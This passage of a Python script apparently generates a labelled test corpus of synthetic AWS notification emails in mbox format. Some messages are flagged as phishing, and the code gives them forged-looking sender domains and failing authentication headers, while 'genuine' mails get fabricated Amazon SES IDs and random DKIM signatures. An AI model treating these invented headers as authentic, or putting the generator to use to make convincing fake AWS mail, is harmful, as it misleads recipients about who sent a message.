    if style == "b2022":
        chunks, cur = [], ""
        for ch in s:
            if len(cur) >= 11:
                chunks.append(cur)
                cur = ""
            cur += ch
        chunks.append(cur)
        return join_words(name, [f"=?ISO-2022-JP?B?{base64.b64encode(x.encode('iso2022_jp')).decode()}?=" for x in chunks])
    if style == "bsjis":
        return join_words(name, b_words(s, "Shift_JIS", "shift_jis", 42))
    raise ValueError(style)


def encode_display(name):
    if is_ascii(name):
        return f"\"{name}\"" if any(ch in name for ch in ",.&") else name
    return b_words(name)[0]


def cte_encode(data, cte):
    if cte in ("7bit", "8bit"):
        return data if data.endswith(b"\n") else data + b"\n"
    if cte == "quoted-printable":
        out = quopri.encodestring(data)
        return out if out.endswith(b"\n") else out + b"\n"
    if cte == "base64":
        return base64.encodebytes(data)
    raise ValueError(cte)


# ---------------------------------------------------------------------------
# MIME: rendering bodies
# ---------------------------------------------------------------------------
def render_text(m):
    out = []
    for b in m.blocks:
        k = b[0]
        if k == "p":
            if m.wrap and m.lang == "en":
                out.append("\n".join(textwrap.fill(x, 76, break_long_words=False, break_on_hyphens=False) if x else ""
                                     for x in b[1].split("\n")))
            else:
                out.append(b[1])
        elif k == "h":
            out.append(b[1])
        elif k == "pre":
            out.append(b[1])
        elif k == "ul":
            out.append("\n".join(f"- {x}" for x in b[1]))
        elif k == "table":
            hdr, rows = b[1], b[2]
            w = [max(len(str(r[i])) for r in [hdr] + rows) for i in range(len(hdr))]
            lines = ["  ".join(str(v).ljust(w[i]) for i, v in enumerate(r)).rstrip() for r in [hdr] + rows]
            out.append("\n".join(lines))
        elif k == "refs":
            out.append("\n".join(f"[{i + 1}] {u}" for i, u in enumerate(b[1])))
    return "\n\n".join(out) + "\n"


URL_RE = re.compile(r"https?://[^\s<>\"]+[^\s<>\".,)]")


def hx(s):
    t = html.escape(s, quote=False)
    t = URL_RE.sub(lambda mo: f"<a href=\"{mo.group(0)}\">{mo.group(0)}</a>", t)
    return t.replace("\n", "<br>\n")


def render_html(m, charset):
    parts = []
    for b in m.blocks:
        k = b[0]
        if k == "p":
            parts.append(f"<p style=\"margin:0 0 12px 0;\">{hx(b[1])}</p>")
        elif k == "h":
            parts.append(f"<p style=\"margin:16px 0 8px 0;\"><b>{hx(b[1])}</b></p>")
        elif k == "pre":
            parts.append("<p style=\"margin:0 0 12px 0;font-family:monospace;\">" + hx(b[1]) + "</p>")
        elif k == "ul":
            parts.append("<ul>\n" + "\n".join(f"<li>{hx(x)}</li>" for x in b[1]) + "\n</ul>")
        elif k == "table":
            hdr, rows = b[1], b[2]
            t = ["<table cellpadding=\"4\" cellspacing=\"0\" border=\"1\" style=\"border-collapse:collapse;\">",
                 "<tr>" + "".join(f"<th align=\"left\">{hx(h)}</th>" for h in hdr) + "</tr>"]
            t += ["<tr>" + "".join(f"<td>{hx(str(v))}</td>" for v in r) + "</tr>" for r in rows]
            parts.append("\n".join(t) + "\n</table>")
        elif k == "refs":
            parts.append("<p style=\"margin:0 0 12px 0;\">" + "<br>\n".join(
                f"[{i + 1}] <a href=\"{u}\">{html.escape(u)}</a>" for i, u in enumerate(b[1])) + "</p>")
    title = html.escape(m.subject, quote=False)
    body = "\n".join(parts)
    doc = ("<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Transitional//EN\" "
           "\"http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd\">\n"
           "<html xmlns=\"http://www.w3.org/1999/xhtml\">\n<head>\n"
           f"<meta http-equiv=\"Content-Type\" content=\"text/html; charset={charset}\" />\n"
           f"<title>{title}</title>\n</head>\n"
           "<body style=\"margin:0;padding:0;background-color:#f2f3f3;font-family:Arial,Helvetica,sans-serif;"
           "font-size:14px;color:#16191f;\">\n"
           "<table width=\"100%\" cellpadding=\"0\" cellspacing=\"0\" border=\"0\"><tr><td align=\"center\">\n"
           "<table width=\"640\" cellpadding=\"0\" cellspacing=\"0\" border=\"0\" bgcolor=\"#ffffff\">\n"
           "<tr><td style=\"background-color:#232f3e;padding:16px 24px;color:#ffffff;font-size:18px;\">"
           "Amazon Web Services</td></tr>\n<tr><td style=\"padding:24px;\">\n"
           f"{body}\n</td></tr>\n</table>\n</td></tr></table>\n</body>\n</html>\n")
    # AWS mail uses numeric character references for typographic characters
    doc = doc.replace("–", "&#8211;").replace("©", "&copy;")
    return doc


def html_bytes(doc, charset):
    if charset.upper() == "ISO-8859-1":
        return doc.encode("latin-1", "xmlcharrefreplace")
    return doc.encode(charset.lower())


def text_bytes(text, charset):
    cs = charset.lower()
    codec = {"iso-2022-jp": "iso2022_jp", "shift_jis": "shift_jis", "us-ascii": "ascii"}.get(cs, cs)
    return text.encode(codec)


# ---------------------------------------------------------------------------
# MIME: whole message
# ---------------------------------------------------------------------------
def date_header(ts, style):
    """Date header value for UTC datetime ts in one of several zone styles."""
    def fmt(local, off, tail=""):
        sign = "+" if off >= 0 else "-"
        hh, mm = divmod(abs(off), 60)
        return f"{local:%a}, {local.day} {local:%b %Y %H:%M:%S} {sign}{hh:02d}{mm:02d}{tail}"
    if style == "utc":
        return fmt(ts, 0)
    if style == "utc0":
        return f"{ts:%a}, {ts:%d %b %Y %H:%M:%S} +0000"
    if style == "gmt":
        return f"{ts:%a}, {ts:%d %b %Y %H:%M:%S} GMT"
    if style == "minus0":
        return f"{ts.day} {ts:%b %Y %H:%M:%S} -0000"
    if style == "utc-comment":
        return fmt(ts, 0, " (UTC)")
    if style in ("pst", "pdt"):
        off = -420 if ts < T(2026, 11, 1, 9) else -480
        return fmt(ts + dt.timedelta(minutes=off), off, " (PDT)" if off == -420 else " (PST)")
    if style == "est":
        off = -240 if ts < T(2026, 11, 1, 6) else -300
        return fmt(ts + dt.timedelta(minutes=off), off, " (EDT)" if off == -240 else " (EST)")
    if style == "jst":
        return fmt(ts + dt.timedelta(hours=9), 540, " (JST)")
    if style == "cet":
        return fmt(ts + dt.timedelta(hours=1), 60)
    raise ValueError(style)


SES_IPS = ["54.240.8.", "54.240.9.", "54.240.48.", "54.240.11.", "54.240.27."]


def ses_ids(ts):
    ms = int(ts.timestamp() * 1000)
    core = f"0100{ms:012x}-{hexs(8)}-{hexs(4)}-{hexs(4)}-{hexs(4)}-{hexs(12)}-000000"
    return core


def b64r(n):
    return base64.b64encode(rng.randbytes(n)).decode()


def fold_b64(prefix, data, width=72):
    out, line = [], prefix
    for ch in data:
        if len(line) >= width:
            out.append(line)
            line = "\t "
        line += ch
    out.append(line)
    return "\n".join(out)


def dkim(domain, selector, ts, signed):
    hdr = (f"DKIM-Signature: v=1; a=rsa-sha256; q=dns/txt; c=relaxed/simple;\n"
           f"\ts={selector}; d={domain}; t={int(ts.timestamp())};\n"
           f"\th={signed};\n"
           f"\tbh={b64r(32)};\n")
    return hdr + fold_b64("\tb=", b64r(256))


def build(n, ts, m):
    """Return (bytes of the message without the mbox From_ line, envelope sender, message-id or None)."""
    a = m.acct
    dom = "example.co.jp" if a.lang == "ja" else "example.com"
    mx = f"mx1.{dom}"
    sname, saddr = m.sender
    genuine = not m.phishing
    H = []
    core = ses_ids(ts)
    if genuine:
        envelope = f"{core}@amazonses.com"
        ip = rng.choice(SES_IPS) + str(rng.randint(1, 254))
        host = f"a{ip.split('.')[2]}-{ip.split('.')[3]}.smtp-out.amazonses.com"
        msgid = f"<{core}@email.amazonses.com>"
    else:
        sdom = saddr.split("@")[1]
        envelope = f"bounce-{hexs(10)}@{sdom}"
        ip = rng.choice(IP_EXT) + str(rng.randint(2, 254))
        host = f"mail{rng.randint(1, 9)}.{sdom}"
        msgid = f"<{ts:%Y%m%d%H%M%S}.{hexs(10).upper()}@{host}>"
    if m.no_msgid:
        msgid = None
    rt = ts + dt.timedelta(seconds=rng.randint(1, 4))
    H.append(f"Return-Path: <{envelope}>")
    H.append(f"Delivered-To: {a.email}")
    H.append(f"Received: from {mx} (localhost [127.0.0.1])\n\tby archive.{dom} (Postfix) with ESMTP id {hexs(10).upper()}\n"
             f"\tfor <{a.email}>; {date_header(rt + dt.timedelta(seconds=1), 'utc-comment')}")
    H.append(f"Received: from {host} ({host} [{ip}])\n\tby {mx} (Postfix) with ESMTPS id {hexs(11).upper()}\n"
             f"\tfor <{a.email}>; {date_header(rt, 'utc-comment')}")
    fdom = saddr.split("@")[1]
    if genuine:
        H.append(f"Authentication-Results: {mx};\n\tdkim=pass header.d={fdom} header.s=ug7nbtf4gccmlpwj322ax3p6ow6yfsug;\n"
                 f"\tdkim=pass header.d=amazonses.com header.s=224i4yxa5dv7c2xz3womw6peuasteono;\n"
                 f"\tspf=pass (mx1.{dom}: domain of {envelope} designates {ip} as permitted sender)"
                 f" smtp.mailfrom={envelope};\n"
                 f"\tdmarc=pass (p=QUARANTINE sp=QUARANTINE dis=NONE) header.from={fdom}")
    elif m.auth == "own-pass":
        H.append(f"Authentication-Results: {mx};\n\tdkim=pass header.d={fdom};\n\tspf=pass smtp.mailfrom={envelope};\n"
                 f"\tdmarc=pass (p=NONE dis=NONE) header.from={fdom}")
    elif m.auth == "fail":
        H.append(f"Authentication-Results: {mx};\n\tdkim=fail (body hash did not verify) header.d={fdom};\n"
                 f"\tspf=softfail (mx1.{dom}: domain of transitioning {envelope} does not designate {ip}"
                 f" as permitted sender) smtp.mailfrom={envelope};\n\tdmarc=fail (p=NONE dis=NONE) header.from={fdom}")
    else:
        H.append(f"Authentication-Results: {mx};\n\tdkim=none;\n\tspf=none smtp.mailfrom={envelope};\n"
                 f"\tdmarc=none header.from={fdom}")
    signed = "From:To:Subject:MIME-Version:Content-Type:Message-ID:Date:Feedback-ID"
    if genuine:
        H.append(dkim(fdom, "ug7nbtf4gccmlpwj322ax3p6ow6yfsug", ts, signed))
        H.append(dkim("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono", ts, signed))
    elif m.auth in ("own-pass", "fail"):
        H.append(dkim(fdom, "s1", ts, "From:To:Subject:Date:Message-ID"))
    # Date
    style = m.date_style or ("jst" if a.lang == "ja" and rng.random() < 0.6 else
                             rng.choices(("utc", "utc0", "gmt", "pst", "minus0", "est", "utc-comment", "cet"),
                                         (30, 12, 10, 14, 3, 8, 12, 6))[0])
    H.append(f"Date: {date_header(ts, style)}")
    # From / To / Subject
    disp = m.sender_display or sname
    if m.lang == "ja" and genuine and sname == "Amazon Web Services" and rng.random() < 0.5:
        disp = JA_NAME
    H.append(f"From: {encode_display(disp)} <{saddr}>")
    if m.sender in (ABUSE_EC2, ABUSE_AWS):
        H.append(f"Reply-To: {saddr}")
    H.append(f"To: {a.email}")
    H.append(encode_subject(m.subject, m.subj_enc))
    if msgid:
        H.append(f"Message-ID: {msgid}")
    H.append("MIME-Version: 1.0")

    # parts
    text = render_text(m)
    boundary = f"----=_Part_{n * 7919 + 104729}_{(n * 15485863) % 2000000000}.{int(ts.timestamp() * 1000)}"
    body_lines = []

    def text_part(cte=None, cs=None):
        cs = cs or m.charset
        cte = cte or m.cte
        data = text_bytes(text, cs)
        hdr = f"Content-Type: text/plain; charset={cs}\nContent-Transfer-Encoding: {cte}\n\n"
        return hdr.encode() + cte_encode(data, cte)

    def html_part():
        cs = m.html_charset or m.charset
        if cs.upper() in ("ISO-2022-JP", "SHIFT_JIS", "US-ASCII"):
            cs = "UTF-8"
        doc = m.html_raw if m.html_raw else render_html(m, cs)
        data = html_bytes(doc, cs)
        cte = m.html_cte or "quoted-printable"
        hdr = f"Content-Type: text/html; charset={cs}\nContent-Transfer-Encoding: {cte}\n\n"
        return hdr.encode() + cte_encode(data, cte)

    def alt(bd):
        return (f"Content-Type: multipart/alternative; \n\tboundary=\"{bd}\"\n\n").encode() + \
            f"--{bd}\n".encode() + text_part() + f"\n--{bd}\n".encode() + html_part() + f"\n--{bd}--\n".encode()

    if m.mime == "plain":
        payload = text_part()
    elif m.mime == "html":
        payload = html_part()
    elif m.mime == "alt":
        payload = alt(boundary)
    elif m.mime in ("mixed-csv", "mixed-pdf"):
        inner = boundary.replace("Part_", "Part_A")
        fname, content = m.attach
        if isinstance(content, str):
            content = content.encode()
            ctype = f"text/csv; charset=UTF-8; name=\"{fname}\""
        else:
            ctype = f"application/pdf; name=\"{fname}\""
        payload = (f"Content-Type: multipart/mixed; \n\tboundary=\"{boundary}\"\n\n").encode() + \
            b"This is a multi-part message in MIME format.\n\n" + \
            f"--{boundary}\n".encode() + alt(inner) + f"\n--{boundary}\n".encode() + \
            (f"Content-Type: {ctype}\nContent-Transfer-Encoding: base64\n"
             f"Content-Disposition: attachment; filename=\"{fname}\"\n\n").encode() + \
            base64.encodebytes(content) + f"\n--{boundary}--\n".encode()
    else:
        raise ValueError(m.mime)
    # Feedback-ID and X-SES headers for genuine SES mail
    if genuine:
        H.append(f"Feedback-ID: 1.{rng.choice(('us-east-1', 'us-west-2'))}.{b64r(32)}:AmazonSES")
        H.append(f"X-SES-Outgoing: {ts:%Y.%m.%d}-{ip}")
    H += m.extra_headers
    head = "\n".join(H) + "\n"
    # payload starts with its own Content-Type lines; insert them into the header block
    return head.encode() + payload, envelope, msgid


def assign_mime(m, c):
    """Defaults for builders that did not choose: mostly multipart/alternative."""
    if m.subj_enc is None:
        if not is_ascii(m.subject):
            if m.lang == "ja":
                m.subj_enc = rng.choice(("b", "bsplit", "b2022"))
            else:
                m.subj_enc = "q"
        else:
            m.subj_enc = rng.choices(("raw", "q", "b", "bsplit"), (60, 14, 10, 16))[0]
    if m.mime is None:
        if m.lang == "ja":
            m.mime = rng.choice(("plain", "alt"))
            m.charset = rng.choice(("ISO-2022-JP", "UTF-8"))
            m.cte = "7bit" if m.charset == "ISO-2022-JP" else "base64"
            m.html_charset, m.html_cte = "UTF-8", "base64"
        else:
            m.mime = rng.choices(("alt", "plain", "html"), (58, 36, 6))[0]
    elif m.mime.startswith("mixed"):
        m.charset = m.charset or "UTF-8"
        m.cte = m.cte or "quoted-printable"
        m.html_cte = m.html_cte or "quoted-printable"
    if m.charset is None:
        if m.mime == "html":
            m.charset = rng.choice(("ISO-8859-1", "UTF-8"))
            m.cte = "quoted-printable"
            m.html_cte = "quoted-printable"
        else:
            m.charset = "UTF-8"
    if m.cte is None:
        text = render_text(m)
        m.cte = rng.choices(("quoted-printable", "8bit", "base64", "7bit"), (35, 35, 15, 15))[0]
        if m.cte == "7bit" and not is_ascii(text):
            m.cte = "8bit"
    if m.html_cte is None:
        m.html_cte = rng.choice(("quoted-printable", "quoted-printable", "base64", "7bit"))
        if m.html_cte == "7bit" and not is_ascii(render_html(m, m.charset)):
            m.html_cte = "quoted-printable"
    if m.mime == "html" and m.html_charset is None:
        m.html_charset = m.charset
        m.html_cte = m.cte if m.cte in ("quoted-printable", "base64") else "quoted-printable"


JA_CAPABLE = {b_key_exposed, b_rds_cert, b_lambda_rt, b_eks, b_robomaker, b_rds_os, b_reboot, b_rds_es, b_ga}


def mboxrd_quote(data):
    return re.sub(rb"(?m)^(>*From )", rb">\1", data)


def generate():
    events = plan()
    events.sort(key=lambda e: (e[0], e[1].i))
    mbox = []
    labels = []
    for n, (ts, a, builder, c) in enumerate(events):
        lang = a.lang if builder in JA_CAPABLE else "en"
        sender = c.get("sender", AWS)
        m = Msg(a, sender, lang)
        m.wrap = rng.random() < 0.3
        c = dict(c)
        c.setdefault("rstyle", "code")
        c.setdefault("dstyle", "long")
        builder(m, c)
        if c.get("date_style"):
            m.date_style = c["date_style"]
        if c.get("no_msgid"):
            m.no_msgid = True
        assign_mime(m, c)
        raw, envelope, msgid = build(n, ts, m)
        from_line = f"From {envelope} {ts:%a %b} {ts.day:2d} {ts:%H:%M:%S %Y}\n".encode()
        mbox.append(from_line + mboxrd_quote(raw) + b"\n")
        labels.append({
            "n": n,
            "message_id": msgid,
            "category": m.category,
            "phishing": m.phishing,
            "group": m.group,
            "reminder": bool(m.reminder or c.get("reminder")),
            "services": list(m.services),
            "deadline": m.deadline.isoformat() if m.deadline else None,
            "accounts": sorted(m.accounts),
            "regions": sorted(m.regions),
            "lang": m.lang,
            "subject": m.subject,
            "from": m.sender[1],
            "outside": not (MONTH_START <= ts < MONTH_END),
        })
    return b"".join(mbox), labels


# ---------------------------------------------------------------------------
# self-check (--check)
# ---------------------------------------------------------------------------
def check(mbox_path, labels_path):
    import email
    import email.policy
    import email.utils
    import mailbox
    from collections import Counter

    labels = [json.loads(x) for x in open(labels_path, encoding="utf-8")]
    box = mailbox.mbox(mbox_path, factory=None, create=False)
    msgs = [email.message_from_bytes(box.get_bytes(k), policy=email.policy.default) for k in box.keys()]
    assert len(msgs) == len(labels), (len(msgs), len(labels))
    known = {a.id for a in ACCTS}
    problems = []
    for lab, msg in zip(labels, msgs):
        n = lab["n"]
        subj = str(msg["subject"])
        if subj != lab["subject"]:
            problems.append(f"{n}: subject {subj!r} != {lab['subject']!r}")
        d = email.utils.parsedate_to_datetime(str(msg["date"]))
        if d.tzinfo is None:            # "-0000": UTC, local zone unknown (RFC 5322 3.3)
            d = d.replace(tzinfo=UTC)
        outside = not (MONTH_START <= d.astimezone(UTC) < MONTH_END)
        if outside != lab["outside"]:
            problems.append(f"{n}: outside flag")
        mid = msg["message-id"]
        if (str(mid) if mid is not None else None) != lab["message_id"]:
            problems.append(f"{n}: message-id {mid!r}")
        texts = [subj]
        for part in msg.walk():
            if part.get_content_maintype() == "text":
                t = part.get_content()
                if part.get_content_subtype() == "html":
                    t = html.unescape(re.sub(r"<[^>]+>", " ", t))
                texts.append(t)
        full = "\n".join(texts)
        found = set(re.findall(r"(?<![0-9])[0-9]{12}(?![0-9])", full))
        named = found & known
        if named != set(lab["accounts"]):
            problems.append(f"{n}: accounts {sorted(named)} != {lab['accounts']}")
        for r in lab["regions"]:
            if r not in full and REGION_EN[r] not in full and REGION_JA[r] not in full and r.upper() not in full:
                problems.append(f"{n}: region {r} not in text")
    for p in problems:
        print("CHECK:", p, file=sys.stderr)
    cats = Counter(x["category"] for x in labels)
    print(f"{len(labels)} messages; outside={sum(x['outside'] for x in labels)}; "
          f"phishing={sum(x['phishing'] for x in labels)}; reminders={sum(x['reminder'] for x in labels)}; "
          f"groups={len({x['group'] for x in labels})}; no message-id={sum(x['message_id'] is None for x in labels)}")
    for k, v in sorted(cats.items(), key=lambda kv: -kv[1]):
        print(f"  {k:18s} {v}")
    return not problems


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--out", default=os.path.join(os.path.dirname(os.path.abspath(__file__)), "2026-11"),
                    help="output directory (default: samples/2026-11 next to this script)")
    ap.add_argument("--check", action="store_true", help="re-read the written files and check them")
    args = ap.parse_args(argv)
    data, labels = generate()
    n_out = sum(x["outside"] for x in labels)
    assert n_out == 3, n_out
    assert 250 <= len(labels) <= 350, len(labels)
    os.makedirs(args.out, exist_ok=True)
    mbox_path = os.path.join(args.out, "notices.mbox")
    labels_path = os.path.join(args.out, "notices.labels.jsonl")
    for path, content in ((mbox_path, data),
                          (labels_path, "".join(json.dumps(x, sort_keys=True, ensure_ascii=False) + "\n"
                                                for x in labels).encode("utf-8"))):
        tmp = path + ".tmp"
        with open(tmp, "wb") as f:
            f.write(content)
        os.replace(tmp, path)
    print(f"wrote {mbox_path} ({len(data)} bytes, {len(labels)} messages) and {labels_path}")
    if args.check and not check(mbox_path, labels_path):
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
